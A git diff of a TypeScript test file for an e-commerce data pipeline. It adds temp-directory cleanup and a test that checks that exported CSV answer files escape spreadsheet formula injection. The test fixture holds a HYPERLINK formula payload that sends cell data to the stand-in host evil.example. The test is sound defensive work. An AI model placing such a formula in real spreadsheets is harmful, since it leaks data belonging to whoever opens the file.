@@ -1,11 +1,12 @@
-import { readFileSync } from 'node:fs';
-import { join } from 'node:path';
+import { readFileSync, rmSync } from 'node:fs';
+import { dirname, join } from 'node:path';
 import { parse } from 'csv-parse/sync';
-import { describe, expect, it } from 'vitest';
+import { afterAll, describe, expect, it } from 'vitest';
 import { readParquet, runPipeline, runSqlAnswers, SQL_ANSWERS, tableRows } from '../../src/index.js';
 import { answersDir } from '../../src/sql/answers.js';
 import { generateSources } from '../../fixtures/generate.js';
 import { hasSample, sampleDir, tempDir } from '../helpers/tmp.js';
+import { emptyWarehouse, removeWarehouse, writeTable } from './warehouse.js';
 
 const fixturesDir = join(import.meta.dirname, '../../fixtures');
 
@@ -18,14 +19,16 @@ function cents(text: unknown): bigint {
 }
 
 function csvRows(warehouse: string, name: string): string[][] {
-  return parse(readFileSync(join(warehouse, 'sql', `${name}.csv`), 'utf8')) as string[][];
+  return parse(readFileSync(join(warehouse, 'sql', `${name}.csv`), 'utf8'));
 }
 
 /** Sums profit over `rows` by the given key columns; keys as the CSV writes them (null → ''). */
 function sumBy(rows: Record<string, unknown>[], keys: string[]): Map<string, bigint> {
   const out = new Map<string, bigint>();
   for (const r of rows) {
-    const k = JSON.stringify(keys.map((c) => (r[c] === null || r[c] === undefined ? '' : String(r[c]))));
+    const k = JSON.stringify(
+      keys.map((c) => (r[c] === null || r[c] === undefined ? '' : String(r[c] as string | number))),
+    );
     out.set(k, (out.get(k) ?? 0n) + cents(r['profit']));
   }
   return out;
@@ -41,7 +44,13 @@ function csvSums(rows: string[][]): Map<string, bigint> {
 function agreesWithTransforms(label: string, input: () => Promise<string>): void {
   describe(`the SQL answers on ${label}`, () => {
     const out = join(tempDir(), 'warehouse');
-    const run = input().then((dir) => runPipeline({ input: dir, out }));
+    const source = input();
+    const run = source.then((dir) => runPipeline({ input: dir, out }));
+    afterAll(async () => {
+      rmSync(dirname(out), { recursive: true, force: true });
+      const dir = await source;
+      if (dir !== fixturesDir) rmSync(dir, { recursive: true, force: true });
+    });
     const aggregate = async (name: string): Promise<Record<string, unknown>[]> => {
       await run;
       return tableRows(await readParquet(join(out, 'aggregates', `${name}.parquet`)));
@@ -94,7 +103,7 @@ function agreesWithTransforms(label: string, input: () => Promise<string>): void
   });
 }
 
-agreesWithTransforms('the bundled fixtures', async () => fixturesDir);
+agreesWithTransforms('the bundled fixtures', () => Promise.resolve(fixturesDir));
 agreesWithTransforms('generated sources (3,000 lines)', async () => {
   const dir = tempDir();
   await generateSources({ lines: 3000, out: dir });
@@ -104,6 +113,9 @@ agreesWithTransforms('generated sources (3,000 lines)', async () => {
 describe.skipIf(!hasSample)('the SQL answers on the shared sample', () => {
   const out = join(tempDir(), 'warehouse');
   const run = runPipeline({ input: sampleDir, out });
+  afterAll(() => {
+    rmSync(dirname(out), { recursive: true, force: true });
+  });
 
   it('gives the known profit by year', async () => {
     await run;
@@ -128,5 +140,40 @@ describe('answersDir', () => {
       expect(readFileSync(join(answersDir, `${n}.sql`), 'utf8')).toMatch(/from enriched\.orders/);
     const fromDist = new URL('../../sql/', 'file:///pkg/node_modules/ecomflow/dist/sql/answers.js');
     expect(fromDist.pathname).toBe('/pkg/node_modules/ecomflow/sql/');
+  });
+});
+
+describe('the answer files against formula injection', () => {
+  const wh = emptyWarehouse();
+  afterAll(() => {
+    removeWarehouse(wh);
+  });
+
+  it('escapes text a spreadsheet would run, and writes negative profits as numbers', async () => {
+    await writeTable(
+      wh,
+      'enriched/orders.parquet',
+      `select * from (values
+        ('=HYPERLINK("http://evil.example/?d="&A1,"Claim")', '@SUM(1+1)', 2016, 'Furniture', -12.50::decimal(18,2)),
+        ('-5', '+Jo', 2017, '-Chairs', 3.25::decimal(18,2)),
+        ('CG-12520', 'Claire Gute', 2017, null, -0.05::decimal(18,2))
+      ) t(customer_id, customer_name, order_year, category, profit)`,
+    );
+    await runSqlAnswers(wh);
+    expect(readFileSync(join(wh, 'sql/profit_by_customer.csv'), 'utf8')).toBe(
+      [
+        'customer_id,customer_name,profit',
+        "-5,'+Jo,3.25",
+        'CG-12520,Claire Gute,-0.05',
+        `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Claim"")",'@SUM(1+1),-12.50`,
+        '',
+      ].join('\n'),
+    );
+    expect(readFileSync(join(wh, 'sql/profit_by_year_category.csv'), 'utf8')).toBe(
+      "order_year,category,profit\n2016,Furniture,-12.50\n2017,'-Chairs,3.25\n2017,,-0.05\n",
+    );
+    expect(readFileSync(join(wh, 'sql/profit_by_year.csv'), 'utf8')).toBe(
+      'order_year,profit\n2016,-12.50\n2017,3.20\n',
+    );
   });
 });
